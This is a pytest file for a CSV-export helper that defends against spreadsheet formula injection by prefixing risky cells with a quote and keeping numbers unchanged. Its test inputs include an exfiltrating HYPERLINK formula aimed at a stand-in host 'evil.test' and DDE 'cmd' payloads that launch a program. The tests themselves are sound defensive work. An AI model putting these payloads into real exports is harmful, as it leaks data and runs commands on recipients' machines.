"""CSV meant for spreadsheets: no text cell may run as a formula, and numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from arrears.services.spreadsheets import spreadsheet_cell, spreadsheet_writer


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.test?"&A1,"Click")',
        "+1+1",
        "-1+1",
        "-A1",
        "@SUM(1+1)*cmd|'/c calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",
        "-",
        "-12.50 EUR",
        "-1e5",
    ],
)
def test_a_text_that_a_spreadsheet_would_evaluate_is_prefixed_with_a_quote(text: str) -> None:
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("number", ["-12.50", "-1200", "0", "1234.50", "-0.005", "12"])
def test_a_plain_decimal_number_stays_a_number_even_when_negative(number: str) -> None:
    assert spreadsheet_cell(number) == number


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("Acme Ltd", "Acme Ltd"),
        ("a=b", "a=b"),
        (" =1+1", " =1+1"),
        (None, ""),
        (True, "true"),
        (False, "false"),
        (["over_limit", "review_due"], "over_limit;review_due"),
        (["=1+1"], "'=1+1"),
        (42, "42"),
        (-7, "-7"),
    ],
)
def test_other_values_are_written_as_their_text(value: object, cell: str) -> None:
    assert spreadsheet_cell(value) == cell


def test_the_writer_makes_every_cell_of_every_row_safe_with_rfc_4180_quoting() -> None:
    out = io.StringIO()

    spreadsheet_writer(out).writerows([["name", "amount"], ['=cmd|"/c calc"', "-5.00"]])

    assert out.getvalue() == 'name,amount\n"\'=cmd|""/c calc""",-5.00\n'
    assert list(csv.reader(io.StringIO(out.getvalue())))[1] == ['\'=cmd|"/c calc"', "-5.00"]


@pytest.mark.parametrize("ends", ["\n", "\r\n"])
def test_a_carriage_return_or_newline_inside_a_cell_is_quoted_so_the_row_stays_whole(ends: str) -> None:
    out = io.StringIO()

    spreadsheet_writer(out, lineterminator=ends).writerows([["\r=1+1", "12.50"], ["a\nb", "-1"], ["plain", "2"]])

    assert list(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [
        ["'\r=1+1", "12.50"],
        ["a\nb", "-1"],
        ["plain", "2"],
    ]
    assert out.getvalue().endswith(f"plain,2{ends}")  # a row without one keeps its minimal quoting
